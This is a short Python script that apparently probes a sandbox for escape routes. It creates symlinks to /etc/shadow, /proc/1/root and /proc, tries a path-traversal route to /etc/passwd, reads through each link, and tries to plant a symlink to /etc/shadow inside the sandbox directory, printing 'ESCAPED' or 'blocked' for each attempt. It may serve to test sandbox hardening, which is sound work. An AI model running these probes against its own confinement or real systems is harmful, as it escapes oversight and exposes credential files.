import os

targets = {
    "/tmp/shadow": "/etc/shadow",
    "/tmp/root": "/proc/1/root",
    "/tmp/hostproc": "/proc",
    "/tmp/up": "/sandbox/../../../../etc/passwd",
}
for link, target in targets.items():
    try:
        os.symlink(target, link)
        with open(link) as f:
            print("ESCAPED: read through", link, f.read()[:200])
    except OSError as exc:
        print("blocked", link, exc)
try:
    os.symlink("/etc/shadow", "/sandbox/prog")
    print("ESCAPED: planted a symlink in the box")
except OSError as exc:
    print("blocked box symlink", exc)
